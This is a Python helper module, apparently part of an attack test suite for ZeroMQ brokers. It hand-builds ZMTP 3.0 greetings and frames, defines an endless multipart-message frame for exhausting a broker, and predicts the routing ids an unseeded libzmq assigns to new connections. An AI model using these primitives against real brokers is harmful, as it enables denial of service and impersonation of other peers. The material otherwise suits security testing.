"""Hand-written wire bytes for the attackers: ZMTP 3.0 greetings and frames, and libzmq's next routing ids.

ZMTP 3.0 (RFC 23) in a few lines: a 64-byte greeting (signature 0xFF, 8 bytes
of padding, 0x7F; version 3.0; a 20-byte mechanism name; an as-server byte;
31 bytes of filler), then frames: a flags byte (bit 0 MORE, bit 1 LONG, bit 2
COMMAND), the size (1 byte, or 8 bytes big-endian with LONG) and the body.

`predicted_counters` computes the routing-id counter an *unseeded* libzmq
starts from (src/random.cpp `generate_random()` = `rand() | rand() << 31`,
truncated to 32 bits) in a fresh interpreter whose C `rand()` nothing has
seeded: the ids such a broker hands its next connections are
b"\\x00" + (counter + k) big-endian.
"""

from __future__ import annotations

import subprocess
import sys

SIGNATURE = b"\xff" + bytes(8) + b"\x7f"
MORE, LONG, COMMAND = 0x01, 0x02, 0x04
# One empty frame with MORE set: the unit of a never-ending multipart message.
ENDLESS_FRAME = bytes([MORE, 0])


def greeting(mechanism: bytes, as_server: bool = False) -> bytes:
    """The 64-byte ZMTP 3.0 greeting."""
    return SIGNATURE + b"\x03\x00" + mechanism.ljust(20, b"\x00") + bytes([as_server]) + bytes(31)


def frame(body: bytes, *, more: bool = False, command: bool = False) -> bytes:
    flags = (MORE if more else 0) | (COMMAND if command else 0)
    if len(body) > 255:
        return bytes([flags | LONG]) + len(body).to_bytes(8, "big") + body
    return bytes([flags, len(body)]) + body


def zmtp_command(name: bytes, data: bytes = b"") -> bytes:
    return frame(bytes([len(name)]) + name + data, command=True)


def ready(socket_type: bytes = b"DEALER", identity: bytes = b"") -> bytes:
    """The NULL mechanism's READY command with its metadata properties."""
    properties = {b"Socket-Type": socket_type, b"Identity": identity}
    return zmtp_command(
        b"READY", b"".join(bytes([len(k)]) + k + len(v).to_bytes(4, "big") + v for k, v in properties.items())
    )


def message(frames: list[bytes]) -> bytes:
    """One multipart message: MORE on every frame but the last."""
    return b"".join(frame(body, more=i < len(frames) - 1) for i, body in enumerate(frames))


NULL_HANDSHAKE = greeting(b"NULL") + ready()

_PREDICT = """
import ctypes, sys
rand = ctypes.CDLL(None).rand
for _ in range(int(sys.argv[1])):
    low = rand()
    high = rand()
    print((low | (high << 31)) & 0xFFFFFFFF)
"""


def predicted_counters(count: int) -> list[int]:
    """The first `count` values of libzmq's generate_random() in a process that never seeded rand()."""
    out = subprocess.run([sys.executable, "-c", _PREDICT, str(count)], capture_output=True, check=True, timeout=30)
    return [int(line) for line in out.stdout.split()]


def generated_form(counter: int) -> bytes:
    """The routing id libzmq generates from a counter value: a zero byte and the counter, big-endian."""
    return b"\x00" + (counter & 0xFFFFFFFF).to_bytes(4, "big")
